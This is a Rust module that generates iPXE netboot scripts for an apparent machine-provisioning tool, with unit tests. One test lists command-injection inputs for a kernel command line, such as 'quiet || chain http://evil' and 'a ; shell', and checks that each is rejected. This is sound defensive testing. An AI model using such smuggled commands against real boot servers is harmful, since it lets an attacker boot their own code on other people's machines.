//! The iPXE scripts that machines boot.

use crate::config::Netboot;
use engine::secret::BootOffer;
use model::image::{ImageContent, check_boot_words};
use model::refusal::Refusal;

/// Attempts to fetch the machine's script before it boots from its disk: Farrier may be restarting.
const TRIES: [&str; 3] = ["a", "b", "c"];

/// Attempts to fetch a boot file, 3 s apart.
const MAX_FETCHES: u32 = 60;

/// For every machine: fetch the script of the MAC address it boots from. A machine without a
/// pending deployment boots from its disk.
pub fn first_script(url: &str) -> String {
    let mut script = String::from("#!ipxe\n");
    let request = format!("chain --replace {url}/netboot/by-mac/${{netX/mac:hexhyp}}");
    for (index, name) in TRIES.iter().enumerate() {
        match TRIES.get(index + 1) {
            Some(next) => script += &format!(":{name}\n{request} || sleep 2\ngoto {next}\n"),
            None => script += &format!(":{name}\n{request} || goto disk\n"),
        }
    }
    script
        + ":disk\necho Farrier does not want this machine; it boots from its disk\n\
              iseq ${platform} pcbios && sanboot --no-describe --drive 0x80 || exit\n"
}

/// For a machine with a pending deployment. Everything in it was checked when it was stored, and is
/// checked again: an older version checked less.
pub fn machine_script(
    settings: &Netboot,
    boot: &BootOffer,
    mac: &str,
    key: &str,
) -> Result<String, Refusal> {
    let (deployment, token) = (&boot.deployment, &boot.token);
    let url = settings.url();
    let what = match &deployment.image.body {
        ImageContent::Disk { .. } => "the deploy environment",
        ImageContent::Kernel { .. } => deployment.image.name.as_str(),
        // The BMC attaches the ISO; there is nothing to fetch.
        ImageContent::Iso { .. } => return Ok("#!ipxe\nexit\n".into()),
    };
    let initrd = match &deployment.image.body {
        ImageContent::Disk { .. } | ImageContent::Kernel { initrd: Some(_), .. } => true,
        ImageContent::Kernel { initrd: None, .. } | ImageContent::Iso { .. } => false,
    };
    let mut words: Vec<String> = Vec::new();
    if initrd {
        // UEFI passes the initrd to the kernel under this name.
        words.push("initrd=initrd".into());
    }
    match &deployment.image.body {
        ImageContent::Disk { .. } => {
            words.extend(settings.cmdline.split_whitespace().map(String::from));
            words.push(format!("farrier.url={url} farrier.token={token} farrier.mac={mac}"));
            words.push(format!("farrier.key={key}"));
        }
        ImageContent::Kernel { cmdline, .. } => words.push(
            cmdline
                .replace("{url}", &url)
                .replace("{token}", token)
                .replace("{mac}", mac)
                .replace("{hostname}", &deployment.hostname)
                .replace("{machine}", deployment.machine_id.as_str()),
        ),
        ImageContent::Iso { .. } => {}
    }
    let title = format!("Farrier: {} boots {what} for {}", deployment.machine_id, deployment.key);
    let words = words.join(" ");
    for (field, text) in [
        ("image.cmdline", &words),
        ("the name of the machine, image or step", &title),
        ("netboot.url", &url),
    ] {
        check_boot_words(field, text)?;
    }
    let mut script = format!(
        "#!ipxe\necho {title}\nset tries:int32 0\n:kernel\n\
         kernel {url}/netboot/{token}/kernel {words} || goto again_kernel\n"
    );
    if initrd {
        script += &format!(
            ":initrd\ninitrd --name initrd {url}/netboot/{token}/initrd || goto again_initrd\n"
        );
    }
    script += "boot\n";
    script += &retry_fetch("kernel");
    if initrd {
        script += &retry_fetch("initrd");
    }
    Ok(script)
}

/// Retries a fetch, because Farrier may be restarting; not for ever, because the token may have
/// been revoked.
fn retry_fetch(what: &str) -> String {
    format!(
        ":again_{what}\ninc tries\niseq ${{tries}} {MAX_FETCHES} && exit ||\nsleep 3\ngoto {what}\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use model::deploy::Deployment;
    use model::effect::EffectKey;
    use model::id::{MachineId, RunId};
    use model::image::{Artifact, DiskFormat, Image};
    use model::time::Timestamp;
    use std::time::Duration;

    fn boot(body: ImageContent) -> BootOffer {
        let now = Timestamp::default();
        let key = EffectKey::new(&RunId::trusted("op-1"), "repave-os", 1);
        let image = Image { name: "mine".into(), body, created_at: now };
        let one = Deployment::new(key, MachineId::trusted("m-1"), image, now, Duration::ZERO);
        let deployment = Deployment { hostname: "node-1".into(), ..one };
        BootOffer { deployment, token: "t0k".into() }
    }

    fn settings() -> Netboot {
        let listen = Some("10.0.0.1:8480".parse().unwrap());
        Netboot { listen, cmdline: "console=ttyS0".into(), ..Netboot::default() }
    }

    #[test]
    fn a_disk_image_boots_the_deploy_environment_with_its_token() {
        let file = Artifact { sha256: "a".repeat(64), size: 1, url: None };
        let boot = boot(ImageContent::Disk { format: DiskFormat::Raw, file });
        let script = machine_script(&settings(), &boot, "52:54:00:00:00:01", "ea4a").unwrap();
        let kernel = "kernel http://10.0.0.1:8480/netboot/t0k/kernel initrd=initrd console=ttyS0 \
                      farrier.url=http://10.0.0.1:8480 farrier.token=t0k \
                      farrier.mac=52:54:00:00:00:01 farrier.key=ea4a || goto again_kernel\n";
        assert!(script.starts_with("#!ipxe\n") && script.contains(kernel), "{script}");
        assert!(script.contains("initrd --name initrd http://10.0.0.1:8480/netboot/t0k/initrd"));
    }

    #[test]
    fn kernel_images_get_their_command_line() {
        let kernel = Artifact { sha256: "a".repeat(64), size: 1, url: None };
        let cmdline = "quiet seed={url}/x?t={token} ip={mac} {hostname} {machine}".into();
        let script = machine_script(
            &settings(),
            &boot(ImageContent::Kernel { kernel, initrd: None, cmdline }),
            "52:54:00:00:00:01",
            "ea4a",
        )
        .unwrap();
        let words = " quiet seed=http://10.0.0.1:8480/x?t=t0k ip=52:54:00:00:00:01 node-1 m-1 ||";
        assert!(script.contains(words), "{script}");
        assert!(!script.contains("initrd") && !script.contains("farrier.token"), "{script}");
    }

    /// An image that an older version has stored.
    #[test]
    fn a_command_line_cannot_add_a_command() {
        for cmdline in
            ["quiet || chain http://evil", "quiet\nshell", "a ; shell", "${x}", "a && b", "# x"]
        {
            let kernel = Artifact { sha256: "a".repeat(64), size: 1, url: None };
            let body = ImageContent::Kernel { kernel, initrd: None, cmdline: cmdline.into() };
            let refusal = machine_script(&settings(), &boot(body), "52:54:00:00:00:01", "ea4a");
            assert_eq!(refusal.unwrap_err().field.as_deref(), Some("image.cmdline"), "{cmdline}");
        }
    }

    #[test]
    fn first_script_has_a_bounded_number_of_attempts() {
        let script = first_script("http://10.0.0.1:8480");
        assert_eq!(script.matches("/netboot/by-mac/${netX/mac:hexhyp}").count(), TRIES.len());
        for goal in script.lines().filter_map(|line| line.split("goto ").nth(1)) {
            assert!(script.contains(&format!("\n:{goal}\n")), "{goal} is nowhere in\n{script}");
        }
    }
}
